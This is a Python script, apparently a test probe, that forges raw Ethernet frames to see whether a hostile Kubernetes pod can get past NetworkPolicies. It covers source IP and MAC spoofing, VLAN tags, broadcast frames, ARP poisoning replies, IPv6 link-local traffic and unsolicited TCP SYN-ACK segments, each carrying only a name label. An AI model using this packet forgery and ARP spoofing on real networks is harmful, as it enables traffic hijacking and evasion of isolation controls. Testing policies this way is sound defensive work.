"""What a hostile pod sends past NetworkPolicies: it pretends to be another pod, and goes around IPv4.

network_liar.py spoof VICTIM_IP FRIEND_IP      a datagram with the friend's address, and one with its link's too
network_liar.py vlan VICTIM_IP                 a datagram in a frame with a tag
network_liar.py broadcast VICTIM_IP            a datagram for all, in a frame for the victim
network_liar.py arp VICTIM_IP ASKER_IP         "the victim's address is here", to the asker and to all
network_liar.py six VICTIM_IP                  a datagram over IPv6, to the victim's address of the link
network_liar.py answer VICTIM_IP FRIEND_IP     an answer to nothing: a segment that claims to belong to a connection
Each datagram says its name, to port 5353 of the victim.
"""
import socket
import struct
import sys

INTERFACE = "eth0"
PORT = 5353


def hardware(ip):
    return bytes([0x0A, 0x58]) + socket.inet_aton(ip)


def own_ip():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.connect(("10.255.255.254", 9))
    return one.getsockname()[0]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, protocol, body):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def datagram(source, target, text):
    body = struct.pack("!HHHH", 4000, PORT, 8 + len(text), 0) + text.encode()
    return packet(source, target, 17, body)


def send_frame(target, source, kind, body):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((INTERFACE, 0))
    raw.send(target + source + kind + body)


def main():
    what, victim, own = sys.argv[1], sys.argv[2], own_ip()
    friend = sys.argv[3] if len(sys.argv) > 3 else own
    ip = b"\x08\x00"
    if what == "spoof":
        send_frame(hardware(victim), hardware(own), ip, datagram(friend, victim, "spoof"))
        send_frame(hardware(victim), hardware(friend), ip, datagram(friend, victim, "spoof"))
    elif what == "vlan":
        for tag in (b"\x81\x00\x00\x05", b"\x88\xa8\x00\x00", b"\x81\x00\x00\x00"):
            send_frame(hardware(victim), hardware(own), tag, ip + datagram(own, victim, "vlan"))
    elif what == "broadcast":
        for target in (victim.rsplit(".", 1)[0] + ".255", "255.255.255.255", "224.0.0.1"):
            send_frame(hardware(victim), hardware(own), ip, datagram(own, target, "broadcast"))
            send_frame(b"\xff" * 6, hardware(own), ip, datagram(own, target, "broadcast"))
    elif what == "arp":
        for target in (hardware(friend), b"\xff" * 6):
            for operation in (1, 2):
                body = struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, operation, hardware(own), socket.inet_aton(victim), hardware(friend), socket.inet_aton(friend))
                send_frame(target, hardware(own), b"\x08\x06", body)
    elif what == "six":
        mac = hardware(victim)
        address = bytes.fromhex("fe80000000000000") + bytes([mac[0] ^ 2, mac[1], mac[2], 0xFF, 0xFE, mac[3], mac[4], mac[5]])
        one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        try:
            one.sendto(b"six", (socket.inet_ntop(socket.AF_INET6, address), PORT, 0, socket.if_nametoindex(INTERFACE)))
        except OSError as error:
            print(error)
    elif what == "answer":
        segment = struct.pack("!HHIIBBHHH", 8080, PORT, 1, 1, 0x50, 0x12, 1000, 0, 0)
        for source in (own, friend):
            send_frame(hardware(victim), hardware(own), ip, packet(source, victim, 6, segment))
    else:
        sys.exit(__doc__)


main()
